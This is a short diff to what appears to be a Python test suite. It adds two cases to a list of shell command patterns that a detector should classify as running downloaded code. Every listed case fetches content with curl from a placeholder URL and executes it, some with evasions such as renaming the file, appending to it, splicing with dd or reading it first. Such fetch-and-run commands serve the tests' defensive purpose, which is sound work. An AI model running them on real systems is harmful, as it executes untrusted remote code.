@@ -128,6 +128,8 @@ CASES = (
     Case("empty-environment", "curl -s $U | env -i /bin/sh", **CODE),
     Case("setsid", "curl -s $U > s; setsid -w sh s", **CODE),
     Case("renamed-later", "curl -s $U > s; mv s Makefile.sh; chmod +x Makefile.sh; sh -c ./Makefile.sh", **CODE),
+    Case("read-then-sourced", "curl -s $U > s; bash -c 'read -r l < s; . ./s'", **CODE),
+    Case("read-then-run", "curl -s $U > s; chmod +x s; bash -c 'read -r l < s; ./s'", **CODE),
     Case("appended", "echo true > s; curl -s $U >> s; sh s", **CODE),
     Case("written-inside", "echo '# x' > s; curl -s $U | dd of=s seek=1 bs=4 conv=notrunc 2> /dev/null; sh s", **CODE),
     Case(
